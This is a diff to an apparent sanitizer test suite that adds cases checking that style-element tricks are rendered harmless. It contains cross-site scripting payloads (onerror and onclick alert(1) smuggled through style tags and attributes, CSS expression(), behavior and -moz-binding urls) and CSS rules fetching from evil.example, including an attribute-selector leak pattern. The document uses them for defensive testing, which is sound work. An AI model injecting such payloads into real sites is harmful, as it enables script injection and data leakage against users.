@@ -122,6 +122,9 @@ describe('hostile content', () => {
       'a style of old browsers',
       '<div style="width: expression(alert(1)); behavior: url(https://evil.example/x.htc); -moz-binding: url(https://evil.example/x)">ok</div>',
     ],
+    ['a style element inside an attribute', '<p title="<style>a{}</style> onclick=alert(1) "><style>" onmouseover=alert(1)</style>ok</p>'],
+    ['style rules that end early', '<style>a{}</style ><img src=x onerror=alert(1)></style><p>ok</p>'],
+    ['style rules with another element in them', '<style>a{}<img src=x onerror=alert(1)></style><p>ok</p>'],
     ['style rules that fetch', '<style>@import "https://evil.example/x.css"; a[href^="x"]{background:url(https://evil.example/y)}</style>'],
   ])('%s does nothing', (_name, html) => {
     expectHarmless(html, pure(html));
